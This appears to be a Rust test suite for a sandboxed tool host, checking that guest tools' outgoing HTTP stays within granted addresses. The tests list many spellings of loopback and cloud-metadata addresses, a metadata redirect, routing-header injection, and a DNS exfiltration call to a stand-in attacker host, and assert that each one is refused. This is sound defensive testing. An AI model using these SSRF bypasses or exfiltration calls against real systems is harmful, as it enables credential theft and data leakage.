//! Outgoing HTTP from the attacker's side, with real components and a real
//! HTTP(S) server on 127.0.0.1 that records every request it gets: the
//! allowed path (granted by literal address), redirects returned and not
//! followed, the response cap, secrets injected but never seen by the guest
//! or written anywhere, `http_request`'s undo, the dry-run method limit, and
//! every hostile attempt (loopback and metadata addresses in all their
//! spellings, names resolving to private addresses, a redirect to the
//! metadata address, DNS exfiltration, raw sockets, no grant at all) refused
//! with the right typed error while the server counts zero requests.

use capsaga_core::error::{ErrorKind, ToolError};
use capsaga_core::tool::{CallContext, ToolOutput};
use capsaga_door::dispatch::Outcome;
use capsaga_door::host::Host;
use capsaga_sandbox::{CallDiagnostics, CallRequest, Op};
use capsaga_tests::TestWorkspace;
use capsaga_tests::http_server::{BIG_BYTES, TestServer};
use serde_json::{Value, json};
use std::sync::Arc;

mod secrets;
mod undo;

async fn step(host: &Arc<Host>, tool: &str, args: Value) -> Outcome {
    capsaga_tests::call_once(host, tool, args).await
}

fn ok(out: &Outcome) -> (&Value, &CallDiagnostics) {
    match out {
        Outcome::Committed {
            output,
            diagnostics: Some(d),
            ..
        } => (&output.data, d),
        other => panic!("expected success, got {other:?}"),
    }
}

fn failed(out: &Outcome) -> (&ToolError, &CallDiagnostics) {
    match out {
        Outcome::ReadFailed {
            error, diagnostics, ..
        }
        | Outcome::Failed {
            error, diagnostics, ..
        } => (error, diagnostics),
        other => panic!("expected a failed call, got {other:?}"),
    }
}

fn workspace(components: &[&str], srv: &TestServer, policy: &str) -> TestWorkspace {
    let ws = TestWorkspace::new(components, policy);
    std::fs::write(ws.root.join("ca.pem"), &srv.ca_pem).unwrap();
    ws
}

#[tokio::test(flavor = "multi_thread")]
async fn web_fetch_reads_a_granted_page_and_gets_redirects_back() {
    let srv = TestServer::start().await;
    let tp = srv.tls_addr.port();
    let ws = workspace(
        &["web_fetch"],
        &srv,
        &format!(
            "[tools.web_fetch]\ngrants = [\"net:https:127.0.0.1:{tp}\"]\n[net]\nca_files = [\"ca.pem\"]\n"
        ),
    );
    let host = ws.host().await;

    let out = step(&host, "web_fetch", json!({"url": srv.tls_url("/hello")})).await;
    let (data, diag) = ok(&out);
    assert_eq!(data["status"], 200);
    assert_eq!(data["title"], "Greeting page");
    let text = data["text"].as_str().unwrap();
    assert!(text.contains("hello world from the test server"), "{text}");
    assert!(!text.contains("evil()"), "{text}");
    assert_eq!(diag.net.len(), 1);
    assert_eq!(diag.net[0].outcome, "sent");
    let seen = srv.requests();
    assert_eq!(seen.len(), 1);
    assert!(seen[0].tls && seen[0].path == "/hello");
    // Host comes from the checked URL.
    assert_eq!(
        seen[0].header("host"),
        Some(format!("127.0.0.1:{tp}").as_str())
    );

    // A redirect is returned, not followed, when the tool does not follow.
    let out = step(
        &host,
        "web_fetch",
        json!({"url": srv.tls_url("/redirect-hello"), "follow_redirects": false}),
    )
    .await;
    assert_eq!(ok(&out).0["status"], 302);
    assert_eq!(srv.count(), 2);
    assert_eq!(srv.requests()[1].path, "/redirect-hello");

    // Following is the tool's own new request, checked again by the host.
    let out = step(
        &host,
        "web_fetch",
        json!({"url": srv.tls_url("/redirect-hello")}),
    )
    .await;
    let (data, diag) = ok(&out);
    assert_eq!(data["final_url"], srv.tls_url("/hello"));
    assert_eq!(data["redirects"], json!([srv.tls_url("/redirect-hello")]));
    assert_eq!(diag.net.len(), 2);
    assert_eq!(srv.count(), 4);

    // A redirect to the metadata address: the new request is refused.
    let out = step(
        &host,
        "web_fetch",
        json!({"url": srv.tls_url("/redirect-meta")}),
    )
    .await;
    let (err, diag) = failed(&out);
    assert_eq!(err.kind, ErrorKind::PermissionDenied, "{err:?}");
    assert_eq!(diag.net.len(), 2, "{:?}", diag.net);
    assert_eq!(diag.net[1].outcome, "denied");
    let details = serde_json::to_string(&err.details).unwrap();
    assert!(details.contains("169.254.169.254"), "{details}");
    assert_eq!(srv.count(), 5, "only /redirect-meta itself was requested");

    // A guest-side size limit cuts the text; over the host's cap is an error.
    let out = step(
        &host,
        "web_fetch",
        json!({"url": srv.tls_url("/big"), "max_bytes": 1000}),
    )
    .await;
    let (data, _) = ok(&out);
    assert_eq!(data["truncated"], true);
    assert_eq!(data["bytes"], 1000);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_response_cap_stops_a_large_body() {
    let srv = TestServer::start().await;
    let p = srv.addr.port();
    let ws = workspace(
        &["net_escape"],
        &srv,
        &format!(
            "[tools.net_escape]\ngrants = [\"net:http:127.0.0.1:{p}\"]\n[net]\nmax_response_bytes = 100000\n"
        ),
    );
    let host = ws.host().await;
    let out = step(
        &host,
        "net_escape",
        json!({"mode": "get", "url": srv.url("/big")}),
    )
    .await;
    let (err, diag) = failed(&out);
    assert_eq!(err.kind, ErrorKind::QuotaExceeded, "{err:?}");
    assert_eq!(diag.net[0].outcome, "truncated");
    assert!(diag.net[0].body_bytes > 100_000 && diag.net[0].body_bytes < BIG_BYTES as u64);
    // The host carries on: a small response still works.
    let out = step(
        &host,
        "net_escape",
        json!({"mode": "get", "url": srv.url("/hello")}),
    )
    .await;
    assert_eq!(ok(&out).0["observed"]["status"], 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn loopback_and_metadata_addresses_are_refused_in_every_spelling() {
    let srv = TestServer::start().await;
    let p = srv.addr.port();
    let ws = workspace(
        &["net_escape"],
        &srv,
        &format!(
            r#"[tools.net_escape]
grants = ["net:http:*.evil.test:{p}", "net:http:granted.test:{p}"]
[net]
hosts = {{ "loop.evil.test" = ["127.0.0.1"], "mapped.evil.test" = ["::ffff:127.0.0.1"], "v6.evil.test" = ["::1"], "nat64.evil.test" = ["64:ff9b::7f00:1"], "meta.evil.test" = ["169.254.169.254"], "zero.evil.test" = ["0.0.0.0"], "granted.test" = ["127.0.0.1"] }}
"#
        ),
    );
    let host = ws.host().await;
    let attempts = [
        format!("http://127.0.0.1:{p}/hello"),
        "http://169.254.169.254/latest/meta-data/".to_string(),
        format!("http://169.254.169.254:{p}/latest/meta-data/"),
        format!("http://[::ffff:127.0.0.1]:{p}/hello"),
        format!("http://[::1]:{p}/hello"),
        format!("http://2130706433:{p}/hello"),
        format!("http://0177.0.0.1:{p}/hello"),
        format!("http://0x7f.1:{p}/hello"),
        format!("http://127.1:{p}/hello"),
        format!("http://loop.evil.test:{p}/hello"),
        format!("http://LOOP.Evil.Test.:{p}/hello"),
        format!("http://loop%2eevil.test:{p}/hello"),
        format!("http://mapped.evil.test:{p}/hello"),
        format!("http://v6.evil.test:{p}/hello"),
        format!("http://nat64.evil.test:{p}/hello"),
        format!("http://meta.evil.test:{p}/hello"),
        format!("http://zero.evil.test:{p}/hello"),
        format!("http://granted.test:{p}/hello"),
        format!("http://user:pw@loop.evil.test:{p}/hello"),
        format!("https://loop.evil.test:{p}/hello"),
    ];
    for url in &attempts {
        let out = step(&host, "net_escape", json!({"mode": "get", "url": url})).await;
        let (err, diag) = failed(&out);
        assert!(
            matches!(
                err.kind,
                ErrorKind::PermissionDenied | ErrorKind::InvalidArgs
            ),
            "{url}: {err:?}"
        );
        if let Some(rec) = diag.net.first() {
            assert_eq!(rec.outcome, "denied", "{url}: {rec:?}");
        }
        assert_eq!(srv.count(), 0, "{url} reached the server");
    }
    // Names resolving to non-public addresses are refused after the host's
    // own lookup, which the record shows.
    let out = step(
        &host,
        "net_escape",
        json!({"mode": "get", "url": format!("http://loop.evil.test:{p}/hello")}),
    )
    .await;
    let (err, diag) = failed(&out);
    assert_eq!(err.kind, ErrorKind::PermissionDenied);
    assert_eq!(
        diag.net[0].resolved,
        Some(vec!["127.0.0.1".parse().unwrap()])
    );
    assert!(diag.net[0].reason.as_deref().unwrap().contains("loopback"));
    // Routing headers are refused before anything is sent.
    for (name, value) in [
        ("host", "169.254.169.254"),
        ("x-forwarded-for", "127.0.0.1"),
    ] {
        let out = step(
            &host,
            "net_escape",
            json!({"mode": "get", "url": format!("http://granted.test:{p}/"), "header": [name, value]}),
        )
        .await;
        let (err, diag) = failed(&out);
        assert_eq!(err.kind, ErrorKind::PermissionDenied, "{name}: {err:?}");
        assert!(diag.net.is_empty(), "{name}: {:?}", diag.net);
    }
    assert_eq!(srv.count(), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_redirect_to_the_metadata_address_is_returned_and_refused_when_followed() {
    let srv = TestServer::start().await;
    let p = srv.addr.port();
    let ws = workspace(
        &["net_escape"],
        &srv,
        &format!("[tools.net_escape]\ngrants = [\"net:http:127.0.0.1:{p}\"]\n"),
    );
    let host = ws.host().await;
    // The host returns the 3xx as it is.
    let out = step(
        &host,
        "net_escape",
        json!({"mode": "get", "url": srv.url("/redirect-meta")}),
    )
    .await;
    let (data, diag) = ok(&out);
    assert_eq!(data["observed"]["status"], 302);
    assert_eq!(
        data["observed"]["location"],
        "http://169.254.169.254/latest/meta-data/"
    );
    assert_eq!(diag.net.len(), 1);
    assert_eq!(srv.count(), 1);
    // Following it is a new request, refused.
    let out = step(
        &host,
        "net_escape",
        json!({"mode": "follow", "url": srv.url("/redirect-meta")}),
    )
    .await;
    let (err, diag) = failed(&out);
    assert_eq!(err.kind, ErrorKind::PermissionDenied, "{err:?}");
    assert_eq!(diag.net.len(), 2);
    assert_eq!(
        (diag.net[0].outcome, diag.net[1].outcome),
        ("sent", "denied")
    );
    assert!(
        diag.net[1].resolved.is_none(),
        "no lookup for a refused host"
    );
    assert_eq!(srv.count(), 2);
    // The literal grant's allowed path works (the host kept serving).
    let out = step(
        &host,
        "net_escape",
        json!({"mode": "get", "url": srv.url("/hello")}),
    )
    .await;
    assert_eq!(ok(&out).0["observed"]["status"], 200);
    assert_eq!(srv.count(), 3);
}

#[tokio::test(flavor = "multi_thread")]
async fn dns_exfiltration_and_raw_sockets_are_refused() {
    let srv = TestServer::start().await;
    let p = srv.addr.port();
    let ws = workspace(
        &["net_escape"],
        &srv,
        &format!("[tools.net_escape]\ngrants = [\"net:http:127.0.0.1:{p}\"]\n"),
    );
    let host = ws.host().await;
    let out = step(
        &host,
        "net_escape",
        json!({"mode": "exfil", "name": "exfil.attacker.test", "data": "password=hunter2 and more secrets to carry out"}),
    )
    .await;
    let (err, diag) = failed(&out);
    assert_eq!(err.kind, ErrorKind::PermissionDenied, "{err:?}");
    let attempts = &err.details.as_ref().unwrap()["attempts"];
    assert_eq!(attempts.as_array().unwrap().len(), 2);
    for a in attempts.as_array().unwrap() {
        assert_eq!(a["lookup"], "permission-denied", "{a}");
        assert_eq!(a["http"], "permission-denied", "{a}");
    }
    // The host refused the HTTP attempts before resolving anything.
    assert_eq!(diag.net.len(), 2);
    assert!(
        diag.net
            .iter()
            .all(|r| r.outcome == "denied" && r.resolved.is_none())
    );

    for args in [
        json!({"mode": "lookup", "name": "example.com"}),
        json!({"mode": "tcp", "addr": srv.raw_addr.to_string()}),
        json!({"mode": "tcp", "addr": srv.addr.to_string()}),
        json!({"mode": "udp"}),
    ] {
        let out = step(&host, "net_escape", args.clone()).await;
        let (err, _) = failed(&out);
        assert_eq!(err.kind, ErrorKind::PermissionDenied, "{args}: {err:?}");
    }
    assert_eq!(srv.raw_connections(), 0);
    assert_eq!(srv.count(), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn without_a_net_grant_nothing_is_reachable() {
    let srv = TestServer::start().await;
    let ws = workspace(
        &["net_sneak", "web_fetch"],
        &srv,
        "[tools.net_sneak]\n[tools.web_fetch]\n",
    );
    let host = ws.host().await;
    let out = step(
        &host,
        "net_sneak",
        json!({"url": srv.url("/hello"), "addr": srv.raw_addr.to_string()}),
    )
    .await;
    let (err, diag) = failed(&out);
    assert_eq!(err.kind, ErrorKind::PermissionDenied, "{err:?}");
    let d = err.details.as_ref().unwrap();
    assert_eq!(d["http"]["kind"], "permission-denied", "{d}");
    assert!(d["tcp"].as_str().unwrap().contains("access-denied"), "{d}");
    assert!(
        diag.net[0]
            .reason
            .as_deref()
            .unwrap()
            .contains("no net grant")
    );
    // A tool that declares net access but is granted none is not callable.
    let out = step(&host, "web_fetch", json!({"url": srv.tls_url("/hello")})).await;
    match out {
        Outcome::Refused { error, .. } => {
            assert!(error.message.contains("net:https:*"), "{error:?}")
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(srv.count(), 0);
    assert_eq!(srv.raw_connections(), 0);
}
